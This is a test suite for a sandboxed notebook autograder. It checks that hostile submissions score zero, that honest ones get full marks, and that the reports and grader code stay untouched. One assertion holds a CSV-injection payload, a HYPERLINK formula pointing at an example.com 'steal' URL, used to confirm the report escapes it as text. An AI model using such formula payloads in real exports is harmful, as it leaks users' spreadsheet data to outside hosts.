import * as assert from 'assert';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { readAssignments } from '../src/check/assignments';
import { gradeSubmissions, GradeRun } from '../src/check/grade';
import { sandboxAvailable } from '../src/check/sandbox';
import { ASSIGNMENT, hostileSubmissions, saveSubmission, solution } from './util/hostile';
import { jupyterPython, REPO } from './util/notebook';

/**
 * Slow suite (16 sandboxed kernels, a few minutes on a loaded 2-core machine): `cnnviz grade` on the
 * hostile submissions of test/util/hostile.ts and three honest solutions, in one run, the honest
 * ones graded before, between and after the attacks. Every attack scores 0 and is named in the
 * problems; every honest solution gets full marks with no problem; the report is complete and
 * stays as the grader wrote it; the checkout is unchanged. Needs bubblewrap (kernel-setup/setup.sh).
 */

const TEMPLATES = path.join(REPO, 'notebooks', 'assignments');
const HONEST = ['aa-honest', 'm-honest', 'zz-honest'];
const hash = (f: string) => createHash('sha256').update(fs.readFileSync(f)).digest('hex');
const GUARDED = ['build/src/check/record.js', 'build/src/check/compare.js', 'build/src/check/grade.js'].map((f) =>
  path.join(REPO, f),
);

describe('grade: hostile submissions in the sandbox (slow: 16 sandboxed kernels)', function () {
  this.timeout(1800_000);
  let run: GradeRun;
  let out: string;
  let hashesBefore: string[];
  let csvAtEnd: string;
  const attacks = hostileSubmissions();
  const row = (student: string) => {
    const r = run.rows.find((x) => x.student === student);
    assert.ok(r, `no row for ${student}`);
    return r;
  };

  before(async function () {
    const box = sandboxAvailable();
    assert.ok(box.ok, `the sandbox cannot be built here (${box.why}): run 'bash kernel-setup/setup.sh'`);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cnnviz-hostile-'));
    const subs = path.join(dir, 'submissions');
    out = path.join(dir, 'report');
    for (const a of attacks) saveSubmission(subs, a);
    for (const h of HONEST) saveSubmission(subs, { student: h, nb: solution() });
    hashesBefore = GUARDED.map(hash);
    run = await gradeSubmissions(subs, {
      out,
      assignments: readAssignments(TEMPLATES).filter((a) => a.id === ASSIGNMENT),
      root: REPO,
      python: jupyterPython(),
      timeoutS: 150,
      cellTimeoutS: 60,
      memoryMb: 2048,
      jobs: 2,
    });
    csvAtEnd = fs.readFileSync(run.files.csv, 'utf8');
    // A process that outlived its sandbox would rewrite the report now.
    await new Promise((r) => setTimeout(r, 2000));
  });

  it('grades every submission in a sandbox and writes a complete report', () => {
    assert.strictEqual(run.sandbox, 'bubblewrap');
    assert.strictEqual(run.rows.length, attacks.length + HONEST.length);
    const csv = fs.readFileSync(run.files.csv, 'utf8');
    assert.strictEqual(csv.trim().split('\n').length, run.rows.length + 1, csv);
    const json = JSON.parse(fs.readFileSync(run.files.json, 'utf8')) as { rows: unknown[] };
    assert.strictEqual(json.rows.length, run.rows.length);
  });

  it('gives every honest solution full marks and no problem, before, between and after the attacks', () => {
    for (const h of HONEST) {
      const r = row(h);
      assert.strictEqual(r.score, 2, `${h}: ${JSON.stringify(r.notebooks.map((n) => [n.checks, n.problems]))}`);
      assert.strictEqual(r.max, 2);
      assert.deepStrictEqual(r.notebooks[0].problems, [], h);
    }
  });

  for (const a of attacks)
    it(`scores 0 and names the attack: ${a.student}`, () => {
      const r = row(a.student);
      const problems = r.notebooks.flatMap((n) => n.problems);
      assert.strictEqual(r.score, 0, `${a.student} got ${r.score}: ${JSON.stringify(r.notebooks[0].checks)}`);
      assert.ok(
        problems.some((p) => a.expect.test(p)),
        `${a.student}: no problem matching ${a.expect} in ${JSON.stringify(problems)}`,
      );
    });

  it('leaves the report as the grader wrote it after the run', () => {
    for (const f of [run.files.csv, run.files.html, run.files.json])
      assert.doesNotMatch(fs.readFileSync(f, 'utf8'), /^sabotaged/);
    assert.strictEqual(fs.readFileSync(run.files.csv, 'utf8'), csvAtEnd);
    assert.ok(fs.existsSync(out));
  });

  it('leaves the grader code in the checkout unchanged', () => {
    assert.deepStrictEqual(GUARDED.map(hash), hashesBefore);
  });

  it('writes formulas in report.csv as text', () => {
    const csv = fs.readFileSync(run.files.csv, 'utf8');
    assert.match(csv, /^'=SUM\(1\+1\)\*cmd,/m);
    assert.match(csv, /"'=HYPERLINK\(""http:\/\/example\.com\/steal\?""&A1,""see my answer""\)"/);
  });
});

describe('grade: --unsafe grades without the sandbox and says so (slow: one kernel)', function () {
  this.timeout(600_000);

  it('runs the notebook unboxed, judged outside, and every row and the report header say so', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cnnviz-unsafe-'));
    saveSubmission(path.join(dir, 'subs'), { student: 'ann', nb: solution() });
    const run = await gradeSubmissions(path.join(dir, 'subs'), {
      out: path.join(dir, 'report'),
      assignments: readAssignments(TEMPLATES).filter((a) => a.id === ASSIGNMENT),
      root: REPO,
      python: jupyterPython(),
      timeoutS: 150,
      unsafe: true,
    });
    assert.strictEqual(run.sandbox, 'none (--unsafe)');
    assert.strictEqual(run.rows[0].score, 2, JSON.stringify(run.rows[0].notebooks[0]));
    assert.match(run.rows[0].notebooks[0].problems.join('\n'), /^unsafe: graded WITHOUT a sandbox/m);
    assert.match(fs.readFileSync(run.files.html, 'utf8'), /Sandbox: none \(--unsafe\)\./);
    assert.match(fs.readFileSync(run.files.csv, 'utf8'), /unsafe: graded WITHOUT a sandbox/);
  });
});
